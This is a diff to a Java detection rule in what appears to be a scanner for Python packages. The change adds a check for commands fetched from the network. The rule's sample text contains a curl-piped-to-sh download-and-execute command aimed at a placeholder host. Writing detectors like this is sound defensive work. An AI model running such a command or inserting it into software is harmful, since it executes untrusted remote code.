@@ -24,7 +24,8 @@ public final class DownloadAndRunCommandRule implements PythonFileRule {
             "os.system('curl -s https://example.invalid/i.sh | sh')",
             "Installer scripts of developer tools sometimes pipe curl into sh; inside a Python package "
                     + "this is rare. Matches only the command text that is really passed to a process call "
-                    + "(constant-folded, or rebuilt from its literal pieces).");
+                    + "(constant-folded, or rebuilt from its literal pieces). Commands whose text comes from a "
+                    + "network response are HIGH/MEDIUM.");
 
     @Override
     public RuleInfo info() {
@@ -39,6 +40,9 @@ public final class DownloadAndRunCommandRule implements PythonFileRule {
                 String m = cmd.find(Commands.DOWNLOAD_EXEC);
                 if (m != null) {
                     sink.report(Location.of(file, c), cmd.sink() + "() downloads and runs: " + m, cmd.evidence());
+                } else if (cmd.taint().contains(CodeFacts.Taint.NETWORK) && !cmd.benign()) {
+                    sink.report(Location.of(file, c), cmd.sink() + "() runs a command or program fetched from the "
+                            + "network", file.line(c.line()).strip(), Severity.HIGH, Confidence.MEDIUM);
                 }
             });
         }
